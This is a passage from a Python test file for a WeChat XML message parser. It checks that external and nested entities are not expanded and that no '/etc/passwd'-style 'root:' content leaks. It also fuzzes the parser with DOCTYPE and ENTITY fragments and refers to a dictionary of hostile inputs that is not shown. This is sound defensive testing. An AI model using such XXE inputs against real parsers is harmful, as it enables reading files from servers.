        b"<xml><a>&inner;</a><b>&outer;</b></xml>"
    )
    root = etree.fromstring(body, messages._PARSER)
    text = "".join(root.itertext()) + etree.tostring(root, encoding="unicode")
    assert "EXPANDED" not in text
    assert "root:" not in text
    # And the tree walk refuses the entity nodes left in place.
    with pytest.raises(ForbiddenXML):
        messages._children_to_dict(root, 2)


def test_comments_and_processing_instructions_are_dropped():
    body = TEXT.replace(b"<MsgId>", b"<!-- note --><?pi data?><MsgId>")
    assert parse_message(body).msg_id == "1234567890123456"


def test_parse_xml_returns_the_root_children():
    assert parse_xml(b"<xml><A>1</A><B/><C><D>2</D></C></xml>") == {
        "A": "1",
        "B": "",
        "C": {"D": "2"},
    }


# --- nothing but our exceptions escape -------------------------------------------------------

XMLISH = st.lists(
    st.sampled_from(
        [
            "<xml>",
            "</xml>",
            "<a>",
            "</a>",
            "<MsgType>",
            "</MsgType>",
            "<![CDATA[",
            "]]>",
            "<!DOCTYPE x>",
            "<!ENTITY e 'v'>",
            "&e;",
            "&amp;",
            "&#0;",
            "&#x110000;",
            "<?xml version='1.0'?>",
            "<!--",
            "-->",
            "<?",
            "?>",
            "\x00",
            "\ufeff",
            "text",
            "中文",
            " ",
        ]
    ),
    max_size=30,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_parse_of_any_bytes_raises_only_wechat_errors(body):
    try:
        parse_message(body)
    except WeChatError:
        pass


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_parse_of_any_text_raises_only_wechat_errors(text):
    try:
        parse_xml(text.encode("utf-8", "surrogatepass"))
    except WeChatError:
        pass


@settings(max_examples=300, deadline=None)
@given(XMLISH)
def test_parse_of_xml_like_text_raises_only_wechat_errors(text):
    try:
        parse_message(text.encode())
    except WeChatError:
        pass


# --- display -----------------------------------------------------------------------------------


def test_pretty_print_xml_indents_and_keeps_cdata():
    pretty = pretty_print_xml(b"<xml><A><![CDATA[x <y>]]></A>\n<B><C>1</C></B></xml>")
    assert pretty == "<xml>\n  <A><![CDATA[x <y>]]></A>\n  <B>\n    <C>1</C>\n  </B>\n</xml>"


def test_pretty_print_xml_accepts_text_and_bytes_alike():
    assert pretty_print_xml(TEXT) == pretty_print_xml(TEXT.decode())


# Display is lenient about structure (any root, any depth, replaced bad bytes) but not about
# DTDs, entities, declared encodings or well-formedness.
DISPLAY_REFUSED = sorted(
    set(HOSTILE)
    - {"gbk_bytes", "invalid_utf8", "nine_levels", "root_not_xml", "root_with_namespace"}
)


@pytest.mark.parametrize("name", DISPLAY_REFUSED)
def test_pretty_print_xml_returns_unacceptable_input_unchanged(name):
    body = HOSTILE[name][0]
    expected = body.decode("utf-8", "replace")
    assert pretty_print_xml(body) == expected
    assert "root:" not in pretty_print_xml(body)


def test_pretty_print_xml_never_raises_on_lone_surrogates():
    assert pretty_print_xml("\ud800<xml/>") == "\ud800<xml/>"
